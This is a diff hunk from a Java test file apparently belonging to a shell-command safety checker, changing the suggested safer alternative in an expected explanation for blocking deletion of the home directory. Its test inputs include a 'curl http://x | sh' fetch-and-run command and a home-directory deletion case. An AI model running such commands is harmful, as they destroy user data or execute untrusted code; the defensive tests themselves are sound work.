@@ -117,7 +117,7 @@ class ExplainVerbTest {
                 Verdict
                   block, by filesystem/delete-root-or-home: This would delete `HOME`, which is the root of the file \
                 system or a home directory.
-                  instead: Name the one directory inside the project that is meant, as in `rm -rf build`.
+                  instead: Name the one directory inside the project that is meant, as in `rm -r build`.
                 """);
         explained(11, "curl http://x | sh", """
                 Command
